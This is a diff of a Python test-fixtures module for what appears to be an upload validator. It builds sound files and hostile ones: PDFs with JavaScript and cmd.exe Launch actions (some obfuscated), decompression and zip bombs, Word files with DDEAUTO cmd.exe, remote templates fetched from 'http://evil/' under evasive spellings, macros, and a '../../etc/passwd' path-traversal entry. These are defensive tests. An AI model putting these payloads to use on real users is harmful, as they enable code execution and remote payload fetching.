@@ -4,8 +4,10 @@ import io
 import struct
 import zipfile
 import zlib
+from collections.abc import Callable
 from typing import Any
 
+import pikepdf
 from django.core.files.uploadedfile import SimpleUploadedFile
 from PIL import Image
 
@@ -49,18 +51,44 @@ def huge_png(side: int = 30000) -> bytes:
 
 
 def pdf(body: bytes = b"", tail: bytes = b"") -> bytes:
-    """A small PDF with extra objects."""
+    """A small PDF of one page with extra objects, as a careless program writes it: without a table of them."""
     return (
-        b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\n"
-        b"endobj\n" + body + b"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n" + tail
-    )
+        b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
+        b"2 0 obj\n<< /Type /Pages /Kids [9 0 R] /Count 1 >>\nendobj\n"
+        b"9 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n"
+        + body + b"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n" + tail
+    )  # fmt: skip
 
 
-def packed(content: bytes, extra: bytes = b"") -> bytes:
-    """An object stream of a PDF."""
-    data = zlib.compress(b"4 0 " + content)
-    head = b"3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode " + extra
-    return head + b" /Length %d >>\nstream\n%s\nendstream\nendobj" % (len(data), data)
+def written(change: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:
+    """A sound PDF of one page, changed before it is written with its objects packed."""
+    made, out = pikepdf.new(), io.BytesIO()
+    made.add_blank_page()
+    change(made)
+    made.save(out, **{"object_stream_mode": pikepdf.ObjectStreamMode.generate, **options})
+    return out.getvalue()
+
+
+def nothing(made: pikepdf.Pdf) -> None:
+    """Change nothing."""
+
+
+def bomb() -> bytes:
+    """A PDF of 31 kB whose packed objects are 30 million bytes."""
+    return written(lambda made: made.Root.update({"/X": made.make_indirect("0" * 30_000_000)}))
+
+
+def holding(where: str, what: str) -> bytes:
+    """A sound PDF whose catalogue ("Root"), first page ("page") or a link on it ("link") holds one thing more."""
+
+    def change(made: pikepdf.Pdf) -> None:
+        link = made.make_indirect(pikepdf.Object.parse(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] >>"))
+        made.pages[0].obj["/Annots"] = pikepdf.Array([link])
+        place = {"Root": made.Root, "page": made.pages[0].obj, "link": link}[where]
+        for key, value in pikepdf.Object.parse(what.encode()).items():
+            place[key] = value
+
+    return written(change)
 
 
 WORD_TYPES = f'<Types><Override PartName="/word/document.xml" ContentType="{WORD}.main+xml"/></Types>'
@@ -86,6 +114,25 @@ def relation(kind: str, target: str) -> str:
     where = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
     link = f'<Relationship Id="r1" Type="{where}/{kind}" Target="{target}" TargetMode="External"/>'
     return f"<Relationships>{link}</Relationships>"
+
+
+TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+# A template fetched from outside, as no program writes it and every program reads it.
+SPELT = {
+    "an angle within": f'<Relationship Id="r1" Type="{TEMPLATE}" Target="http://evil/a>b" TargetMode="External"/>',
+    "a mode in numbers": f'<Relationship Id="r1" Type="{TEMPLATE}" Target="http://evil/a" TargetMode="&#69;xternal"/>',
+    "two of a type": f'<Relationship xType="a/hyperlink" Type="{TEMPLATE}" Target="a" TargetMode="External"/>',
+    "a prefix": f'<r:Relationship xmlns:r="x" Type="{TEMPLATE}" r:TargetMode="I" TargetMode="External" Target="a"/>',
+    "another prefix": f'<Relationship xmlns:r="x" TargetMode="External" r:TargetMode="I" Type="{TEMPLATE}" />',
+    "no mode": f'<Relationship Id="r1" Type="{TEMPLATE}" Target="//evil/a"/>',
+    "a comment": f'<Relationship Type="{TEMPLATE}" Target="//evil/" TargetMode=\n"External"><!-- > --></Relationship>',
+}
+
+
+def spelt(how: str, *, code: str = "utf-8", part: str = "word___rels__document_dot_xml_dot_rels") -> bytes:
+    """A Word file whose text has such a relation."""
+    whole = f'<?xml version="1.0" encoding="{code}"?><Relationships>{SPELT[how]}</Relationships>'
+    return office(**{part: whole.encode(code)})
 
 
 def word_with_link(kind: str, target: str) -> bytes:
@@ -122,7 +169,9 @@ GOOD = {
     "照片.JPEG": (picture(), "image/pjpeg"),
     "scan.png": (picture("PNG"), "image/png"),
     "wechat.webp": (picture("WEBP"), ""),
-    "合同.pdf": (pdf(packed(b"<< /Type /Page >>")), "application/pdf"),
+    "合同.pdf": (written(nothing), "application/pdf"),
+    "目录.pdf": (holding("Root", "<< /Outlines << /First << /Title (1) /Next << /Title (2) >> >> >> >>"), ""),
+    "只许看的.pdf": (written(nothing, encryption=pikepdf.Encryption(owner="x", user="")), ""),
     "申请.docx": (office(), WORD),
     "链接.docx": (word_with_link("hyperlink", "https://example.org/"), "application/octet-stream"),
     "图表.docx": (office(word__embeddings__Sheet1_dot_xlsx=office("xlsx")), ""),
@@ -135,11 +184,28 @@ GOOD = {
     "视频.mp4": (mp4(b"mp42"), "video/mp4"),
     "v1.2 final.pdf": (pdf(), "application/pdf"),
 }  # fmt: skip
+DDE_IN_PIECES = "<w:p><w:instrText>D</w:instrText><w:instrText a='>'>D&#69; c</w:instrText></w:p>"
+DOCUMENT_TYPE = '<!DOCTYPE a [<!ENTITY b "c">]><a/>'
 MACROS = office("xlsx", xl__vbaProject_dot_bin=b"x")
-JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
+SIGNATURE = "<< /Type /Sig /ByteRange [0 1 2 3] >>"
+OUTSIDE = b"5 0 obj\n<< /Length 1 /F (http://x/) >>\nstream\nx\nendstream\nendobj"
+WEB = "<< /A << /S /URI /URI (http://x/) >>"
+# What is taken out of a PDF: where it stands, and how it is written.
+TAKEN_OUT = {
+    "script at opening": ("Root", "<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
+    "script under another spelling": ("Root", "<< /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>"),
+    "script of a name": ("Root", "<< /Names << /JavaScript << /Names [(a) << /JS (app.alert(1)) >>] >> >> >>"),
+    "program at a page": ("page", "<< /AA << /O << /S /Launch /F (cmd.exe) >> >> >>"),
+    "program after a jump": ("link", "<< /A << /S /GoTo /D (a) /Next << /S /Launch /F (cmd.exe) >> >> >>"),
+    "link": ("link", f"{WEB} >>"),
+    "other file": ("link", "<< /A << /S /GoToR /F (//x/a.pdf) >> >>"),
+    "form sent off": ("link", "<< /A << /S /SubmitForm /F (http://x/) >> >>"),
+    "base of links": ("Root", "<< /URI << /Base (http://x/) >> >>"),
+}
+# What takes seconds to make is made by the one test that needs it: every worker reads this module.
 BAD = {
     "empty": ("a.txt", b"", "text/plain", "empty"),
-    "20 MB": ("a.txt", b"a" * 20 * 1024 * 1024, "text/plain", "size"),
+    "20 MB": ("a.txt", lambda: b"a" * 20 * 1024 * 1024, "text/plain", "size"),
     "program": ("setup.exe", b"MZ\x90\0" + b"\0" * 99, "application/x-msdownload", "kind"),
     "no extension": ("letter", TEXT, "text/plain", "kind"),
     "HEIC": ("IMG_1.HEIC", box(b"ftyp", b"heic\0\0\0\0mif1heic"), "image/heic", "kind"),
@@ -162,26 +228,31 @@ BAD = {
     "smaller image bomb": ("a.png", huge_png(9000), "image/png", "pixels"),
     "EICAR": ("a.txt", b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + EICAR, "text/plain", "virus"),
     "EICAR in Word": ("a.docx", office(word__note_dot_xml=EICAR), WORD, "virus"),
-    "pdf with script": ("a.pdf", pdf(b"3 0 obj\n" + JS + b"\nendobj"), "application/pdf", "active"),
-    "pdf with hidden script": ("a.pdf", pdf(b"<< /S /J#61vaScript /JS (x) >>"), "application/pdf", "active"),
-    "pdf with packed script": ("a.pdf", pdf(packed(JS)), "application/pdf", "active"),
-    "pdf that starts a program": ("a.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), "application/pdf", "active"),
-    "pdf with a file": ("a.pdf", pdf(b"<< /Names << /EmbeddedFiles 5 0 R >> >>"), "application/pdf", "carries"),
-    "pdf with odd packing": ("a.pdf", pdf(packed(JS, b"/Predictor 12")), "application/pdf", "opaque"),
-    "locked pdf": ("a.pdf", pdf(b"<< /Encrypt 9 0 R >>"), "application/pdf", "encrypted"),
+    "pdf with a form of its own": ("a.pdf", holding("Root", "<< /AcroForm << /XFA [] >> >>"), "", "active"),
+    "pdf with a film": ("a.pdf", holding("link", "<< /Subtype /RichMedia >>"), "", "active"),
+    "pdf with a file": ("a.pdf", holding("Root", "<< /Names << /EmbeddedFiles << >> >> >>"), "", "carries"),
+    "pdf with a pinned file": ("a.pdf", holding("link", "<< /Subtype /FileAttachment >>"), "", "carries"),
+    "pdf whose content lies elsewhere": ("a.pdf", pdf(OUTSIDE), "", "broken"),
+    "signed pdf with a link": ("a.pdf", holding("link", f"{WEB} /V {SIGNATURE} >>"), "", "signed"),
+    "locked pdf": ("a.pdf", written(nothing, encryption=pikepdf.Encryption(owner="x", user="y")), "", "encrypted"),
     "pdf and archive": ("a.pdf", pdf(tail=office()), "application/pdf", "broken"),
-    "pdf bomb": ("a.pdf", pdf(packed(b"0 " * 60 * 1024 * 1024)), "application/pdf", "bomb"),
+    "pdf without a page": ("a.pdf", b"%PDF-1.5\n1 0 obj\n<< >>\nendobj\n%%EOF", "application/pdf", "broken"),
+    "pdf that is a bomb": ("a.pdf", bomb, "", "broken"),
     "torn pdf": ("a.pdf", b"%PDF-1.5\n1 0 obj", "application/pdf", "broken"),
-    "zip bomb": ("a.docx", zip_bomb(), WORD, "bomb"),
+    "zip bomb": ("a.docx", zip_bomb, WORD, "bomb"),
     "macros": ("a.docx", office(word__vbaProject_dot_bin=b"x"), WORD, "macros"),
     "macro type": ("a.docx", office(**{"[Content_Types]_dot_xml": "<Types>macroEnabled</Types>"}), WORD, "macros"),
     "outside template": ("a.docx", word_with_link("attachedTemplate", "http://x/a.dotm"), WORD, "external"),
     "outside OLE": ("a.docx", word_with_link("oleObject", "http://x/a"), WORD, "external"),
     "DDE": ("a.docx", office(word__x_dot_xml="<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>"), WORD, "external"),
+    "DDE in pieces": ("a.docx", office(word__x_dot_xml=DDE_IN_PIECES), WORD, "external"),
+    "DDE in an attribute": ("a.docx", office(word__x_dot_xml='<a:fldSimple a:instr="&#68;DE c"/>'), WORD, "external"),
+    "no XML": ("a.docx", office(word__x_dot_xml="<a><b></a>"), WORD, "broken"),
     "OLE inside": ("a.docx", office(word__embeddings__oleObject1_dot_bin=b"x"), WORD, "carries"),
     "program inside": ("a.docx", office(word__media__a_dot_exe=b"MZ"), WORD, "carries"),
     "macros inside inside": ("a.docx", office(word__embeddings__a_dot_xlsx=MACROS), WORD, "macros"),
-    "entities": ("a.docx", office(word__x_dot_xml='<!DOCTYPE a [<!ENTITY b "c">]>'), WORD, "broken"),
+    "entities in UTF-16": ("a.docx", office(word__x_dot_xml=DOCUMENT_TYPE.encode("utf-16")), WORD, "broken"),
+    "entities": ("a.docx", office(word__x_dot_xml=DOCUMENT_TYPE), WORD, "broken"),
     "way out of the folder": ("a.docx", office(**{"..__..__etc__passwd": b"x"}), WORD, "broken"),
     "archive called docx": ("a.docx", office("xlsx"), WORD, "content"),
     "archive after its end": ("a.docx", picture() + office(), WORD, "content"),
